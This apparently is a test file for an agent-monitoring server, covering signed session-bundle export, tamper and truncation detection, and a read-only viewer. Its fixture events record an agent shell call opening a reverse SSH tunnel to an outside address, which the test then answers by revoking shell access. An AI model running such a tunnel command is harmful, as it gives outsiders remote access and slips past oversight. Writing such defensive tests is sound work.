// An episode into a real server, its bundle out of it, checked, changed, and opened in a second server that knows nothing else.
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { downloadBundle } from '../cli/make-bundle.ts'
import { verifyToTerminal } from '../cli/verify-bundle.ts'
import { startForTest, type TestServer, testAdmin, testKey } from './start-for-test.ts'

const session = 'ep-bundle-1'
const other = 'ep-bundle-2'
let folder: string
let bundle: string
let server: TestServer
let key: string

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'vigil-bundles-'))
  bundle = path.join(folder, 'it.tar')
  server = await startForTest()
  const atMs = Date.now() - 60_000
  const fact = (kind: string, data: object, of = session) =>
    JSON.stringify({ v: 1, kind, atMs, session: of, host: 'node-1', data })
  const body = [
    fact('session.started', { held: 'none', abilities: [], agent: 'coder', task: 'fix the tests' }),
    ...Array.from({ length: 40 }, (_, n) =>
      fact('message.recorded', { role: 'assistant', text: `line ${n}\n<script>` }),
    ),
    fact('action.started', {
      call: 'c1',
      tool: 'Bash',
      input: '{"command":"ssh -fN -R 9000:localhost:22 203.0.113.9"}',
    }),
    fact('action.ended', { call: 'c1', outcome: 'ok' }),
    fact('session.started', { held: 'none', abilities: [], task: 'a secret of somebody else' }, other),
  ].join('\n')
  const headers = { 'content-type': 'application/x-ndjson' }
  const sent = await server.api('/api/ingest/events', { method: 'POST', headers, body })
  expect(await sent.json()).toMatchObject({ accepted: 44, rejected: 0 })
  const call = { session, callId: 'c2', tool: 'Bash', input: { command: 'ls' } }
  await server.api('/api/gate', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(call),
  })
  const asked = await server.api(`/api/sessions/${session}/controls`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ action: 'revoke', capability: 'shell', reason: 'a tunnel' }),
  })
  expect(asked.status, await asked.text()).toBe(202)
  key = ((await (await server.api('/api/bundle-key')).json()) as { key: string }).key
  await downloadBundle({ url: server.url, key: testKey }, { session: [session], output: bundle }, quiet)
})
afterAll(async () => {
  await server?.stop()
  await rm(folder, { recursive: true, force: true })
})

const quiet = { out: () => undefined, explain: () => undefined }
function verify(file: string, pin?: string) {
  let said = ''
  const code = verifyToTerminal(file, pin === undefined ? {} : { key: pin }, {
    out: (text) => (said += text),
    explain: () => undefined,
  })
  return { code, said }
}

describe('a bundle of a session', () => {
  it('is whole, and signed with the key that the server shows', () => {
    const { code, said } = verify(bundle, key)
    expect(said).toContain('whole: all ')
    expect(said).toContain(`${key} (the key you gave)`)
    expect(code).toBe(0)
  })

  it('holds every event of the session as the log has it, and nothing of another session', async () => {
    const text = await readFile(bundle, 'utf8')
    const { events } = (await (await server.api(`/api/sessions/${session}/events?after=0&limit=5000`)).json()) as {
      events: { id: string; seq: number; seenAtMs: number; trust: string }[]
    }
    expect(events.length).toBeGreaterThan(42)
    for (const { id, seq, seenAtMs, trust } of events) {
      expect(text).toContain(`"seq":${seq},"id":"${id}","seenAtMs":${seenAtMs}`)
      expect(trust).toBeTruthy()
    }
    expect(text).not.toContain('a secret of somebody else')
  })

  it('names the one byte that was changed afterwards, with its line', async () => {
    const bytes = await readFile(bundle)
    const at = bytes.indexOf('fix the tests')
    bytes[at] = 'm'.charCodeAt(0)
    const changed = path.join(folder, 'changed.tar')
    await writeFile(changed, bytes)
    const { code, said } = verify(changed)
    expect(code).toBe(1)
    expect(said).toContain(`NOT WHOLE: byte ${at} is 0x6d "m", was 0x66 "f": events.ndjson line 1`)
  })

  it('is found out when it is cut', async () => {
    const bytes = await readFile(bundle)
    const cut = path.join(folder, 'cut.tar')
    await writeFile(cut, bytes.subarray(0, bytes.length - 700))
    const { code, said } = verify(cut)
    expect(code).toBe(1)
    expect(said).toContain(`NOT WHOLE: it ends at byte ${bytes.length - 700}`)
  })

  it('is not by the key that was asked for when another installation made it', () => {
    const { code, said } = verify(bundle, 'ab'.repeat(32))
    expect(code).toBe(1)
    expect(said).toContain('NOT BY THE KEY YOU GAVE')
  })

  it('is said in the audit, and leaves no file behind', async () => {
    const { entries } = (await (await server.api('/api/audit?q=bundle.made')).json()) as { entries: { body: string }[] }
    expect(entries[0]?.body).toContain(session)
    expect(await readdir(path.join(server.dataDir, 'bundles'))).toEqual([])
  })

  it('is refused to who may only read, and of a session that nobody knows', async () => {
    const made = await server.api('/api/keys', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'reader', scopes: ['read'] }),
    })
    const authorization = `Bearer ${((await made.json()) as { key: string }).key}`
    expect((await server.api(`/api/bundle?session=${session}`, { headers: { authorization } })).status).toBe(403)
    expect((await server.api('/api/bundle?session=nobody')).status).toBe(404)
  })
})

describe('a console that shows a bundle', () => {
  let shown: TestServer
  beforeAll(async () => {
    shown = await startForTest({ VIGIL_BUNDLE: bundle, VIGIL_BUNDLE_KEY: key })
  })
  afterAll(() => shown?.stop())

  it('has the session as the first server has it: the same facts through the same reducer', async () => {
    const of = async (from: TestServer) => (await (await from.api(`/api/sessions/${session}`)).json()) as unknown
    expect(await of(shown)).toEqual(await of(server))
  })

  it('has each event with its own number, times and trust', async () => {
    const of = async (from: TestServer) =>
      (await from.api(`/api/sessions/${session}/events?after=0&limit=5000`)).json() as Promise<{ events: unknown[] }>
    expect((await of(shown)).events.length).toBeGreaterThan(42)
    expect(await of(shown)).toEqual(await of(server))
  })

  it('refuses whatever would change something, by every door', async () => {
    const headers = { 'content-type': 'application/json' }
    const post = (to: string, body: object) => shown.api(to, { method: 'POST', headers, body: JSON.stringify(body) })
    const answers = await Promise.all([
      post('/api/ingest/events', {
        v: 1,
        kind: 'session.started',
        atMs: 1,
        session: 'x',
        data: { held: 'none', abilities: [] },
      }),
      post(`/api/sessions/${session}/controls`, { action: 'pause' }),
      post('/api/gate', { session, callId: 'c9', tool: 'Bash', input: {} }),
      post('/api/keys', { name: 'x', scopes: ['read'] }),
      shown.api(`/api/bundle?session=${session}`),
    ])
    for (const answer of answers) {
      expect(answer.status).toBe(403)
      expect(await answer.text()).toContain('this console shows a bundle')
    }
  })

  it('lets its reader in as a viewer, and says what it shows', async () => {
    const { email, password } = testAdmin
    const signedIn = await fetch(`${shown.url}/api/auth/sign-in/email`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: shown.url },
      body: JSON.stringify({ email, password }),
    })
    const cookie = signedIn.headers
      .getSetCookie()
      .map((each) => each.split(';')[0])
      .join('; ')
    const me = await fetch(`${shown.url}/api/me`, { headers: { cookie } })
    expect(await me.json()).toMatchObject({
      operator: { role: 'viewer' },
      shows: { name: 'it.tar', sessions: [session], whole: true, pin: 'matches', key, unreadable: 0 },
    })
  })
})
